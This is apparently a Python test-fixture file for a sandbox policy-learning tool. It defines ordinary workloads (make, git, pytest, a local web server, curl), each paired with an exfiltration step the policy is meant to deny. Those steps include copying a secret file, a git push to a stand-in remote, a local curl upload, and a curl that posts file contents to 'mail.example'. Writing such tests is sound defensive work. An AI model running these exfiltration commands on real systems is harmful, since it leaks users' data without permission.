# SPDX-License-Identifier: BSD-2-Clause
"""Work that a policy is learned from, and one step of exfiltration for each.

A workload is a shell script that is run in a folder of its own, always the same way. With EXFIL set in the
environment it does one thing more at the end, by programs that it has used before, and prints `exfil: STATUS`.
"""

SECRET = "/srv/picket-learn-secret/data"
EVIL = "mail.example"

# name: (files, script, the step of exfiltration, what its denial names)
WORKLOADS = {
    "make": (
        {"Makefile": "all: app\n\t./app >out.txt\napp: main.o util.o\n\tgcc -o $@ $^\n"
                     "%.o: %.c util.h\n\tgcc -O1 -c -o $@ $<\nclean:\n\trm -f app *.o out.txt\n",
         "main.c": '#include <stdio.h>\n#include "util.h"\nint main(void) '
                   '{ printf("%d\\n", twice(21)); return 0; }\n',
         "util.c": '#include "util.h"\nint twice(int n) { return 2 * n; }\n',
         "util.h": "int twice(int n);\n"},
        "make -s && cat out.txt && make -s clean",
        f"cat {SECRET} >stolen",
        SECRET),
    "git": (
        {"file": "one\n"},
        "rm -rf repo copy && git init -q repo && cd repo && cp ../file . && git add file && "
        "git commit -q -m first && echo two >>file && git commit -q -a -m second && "
        "git checkout -q -b side && git log --oneline | wc -l && git clone -q . ../copy && "
        "git -C ../copy branch | wc -l",
        "git -C ../copy push -q https://git.example/git/repo.git HEAD:refs/heads/stolen",
        "git-remote"),
    "pytest": (
        {"pkg/__init__.py": "", "pkg/code.py": "def twice(n):\n    return 2 * n\n",
         "tests/__init__.py": "",
         "tests/test_code.py": "import tempfile, unittest\nfrom pkg import code\n"
                               "class Test(unittest.TestCase):\n"
                               "    def test_twice(self):\n"
                               "        with tempfile.TemporaryDirectory() as folder:\n"
                               "            with open(folder + '/x', 'w') as file:\n"
                               "                file.write('x')\n"
                               "        self.assertEqual(code.twice(2), 4)\n"},
        "python3 -m unittest -q 2>/dev/null; echo $?",
        f"python3 -c 'import sys; sys.stdout.write(open(\"{SECRET}\").read())'",
        SECRET),
    "server": (
        {"www/index.html": "hello\n"},
        "python3 -m http.server 8377 --bind 127.0.0.1 -d www >/dev/null 2>&1 & server=$!; "
        "for i in 1 2 3 4 5 6 7 8 9; do sleep 1; curl -s -o got http://127.0.0.1:8377/ && break; "
        "done; cat got; kill $server; wait $server",
        "curl -s -m 20 -T got http://127.0.0.1:8378/",
        '"port": 8378'),
    "curl": (
        {"urls": "https://one.example/\nhttp://two.example/\n"},
        "while read -r url; do curl -s -o page -w '%{http_code}\\n' \"$url\"; done <urls; wc -c <urls",
        f"curl -s -m 20 -o page --data-binary @urls http://{EVIL}/",
        EVIL),
}
